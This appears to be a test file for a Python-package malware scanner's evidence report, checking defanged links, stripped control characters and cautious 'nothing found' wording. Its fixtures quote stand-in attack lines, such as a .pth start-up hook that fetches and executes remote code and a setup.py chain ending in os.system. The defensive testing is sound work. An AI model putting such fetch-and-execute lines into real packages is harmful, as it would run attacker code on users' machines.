import { describe, expect, it } from 'vitest';
import { evidenceText } from '../../../server/src/reports/evidence-text.ts';
import { evidence, released } from './evidence.ts';

const now = Date.parse('2026-11-22T10:03:00Z');
const shown = (changes: Parameters<typeof released>[0] = {}, onPypi = true) =>
  evidenceText({ name: 'acme', inspected: released(changes), onPypi, now });

describe('the evidence view', () => {
  it('tells what was looked into, each piece with its place, meaning, reason and line in the inspector, and what was not', () => {
    expect(shown()).toBe(
      [
        'acme 1.2',
        '',
        '1 of 2 files looked into, 22 November 10:00 UTC. Nothing was run.',
        '',
        'acme-1.2-py3-none-any.whl: malicious',
        '====================================',
        `SHA-256 ${'a'.repeat(64)}, as the index tells it.`,
        '',
        '1. start-up-hook (strong)',
        '   acme_init.pth, line 1; runs whenever Python starts',
        '   | exec(requests.get("https[:]//payload.example.invalid/x").text)',
        '   The line is executed whenever Python starts.',
        '   https://inspector.pypi.io/project/acme/1.2/packages/ab/cd/0123456789abcdef/acme-1.2-py3-none-any.whl/acme_init.pth#line.1',
        '',
        'Not looked into:',
        '  acme-1.2.tar.gz',
        '',
        'A verdict is about the file it stands at. Nothing found means that no rule found anything,',
        'not that the file is safe.',
        'Addresses in what is quoted are broken up, so that none opens by a slip.',
        '',
      ].join('\n'),
    );
  });

  it('makes no link of what others wrote, and lets nothing move or hide', () => {
    const text = '\u202eexec\u001b[31m(x)\u001b[0m https://evil.example.invalid\nsecond http://b.invalid';
    const told = shown(
      { evidence: [evidence({ text, file: 'a\nb\u202e.pth' })], verdict: 'suspicious' },
      false,
    );
    expect(told).toContain('   | exec(x) https[:]//evil.example.invalid second http[:]//b.invalid\n');
    expect(told).toContain('   a b.pth, line 1;');
    expect(told).not.toContain('://');
    for (const sign of ['\u202e', '\u001b']) expect(told).not.toContain(sign);
  });

  it('leads to a place once, though several things stand there', () => {
    const told = shown({
      evidence: [evidence({}), evidence({ rule: 'decode-exec' }), evidence({ line: 7 })],
    });
    expect(told.match(/#line\.\d+/g)).toEqual(['#line.1', '#line.8']);
  });

  it('breaks what explains a piece of evidence into lines that need no scrolling, and cleans what it names', () => {
    const why = `It names ${'a file of theirs '.repeat(12)}http://c.invalid/\u202e.`;
    const told = shown({ evidence: [evidence({ why })] }, false);
    expect(told.split('\n').every((line) => line.length <= 100)).toBe(true);
    expect(told.replace(/\s+/g, ' ')).toContain(`${'a file of theirs '.repeat(12)}http[:]//c.invalid/`);
    expect(told).not.toContain('\u202e');
  });

  it('says of parts and of what has no hash that it could not be checked', () => {
    expect(shown({ integrity: 'unverified', sha256: null })).toContain(
      'Read in parts, so its hash could not be checked.',
    );
    expect(shown({ integrity: 'unverified' })).toContain('; the index told none to check it by.');
  });

  it('says that nothing was found, never that something is safe, and what was not read', () => {
    const told = shown({
      verdict: 'clean',
      evidence: [],
      limits: [
        { what: 'acme/fast.so', why: 'compiled' },
        ...Array.from({ length: 30 }, (_, n) => ({ what: `x${n}`, why: 'nested' as const })),
      ],
    });
    expect(told).toContain('acme-1.2-py3-none-any.whl: nothing found\n');
    expect(told).toContain(
      'Not read:\n  acme/fast.so: compiled, cannot be read\n  x0: an archive in the archive\n',
    );
    expect(told).toContain('  and 11 more\n');
  });

  it('shows the steps of a chain', () => {
    const steps = [
      { file: 'setup.py', line: 3, text: 'requests.get("http://x.example.invalid")' },
      { file: 'setup.py', line: 7, text: 'os.system("/tmp/x")' },
    ];
    expect(shown({ evidence: [evidence({ steps })] })).toContain(
      '   - setup.py, line 4: requests.get("http[:]//x.example.invalid")\n   - setup.py, line 8: os.system("/tmp/x")\n',
    );
  });
});
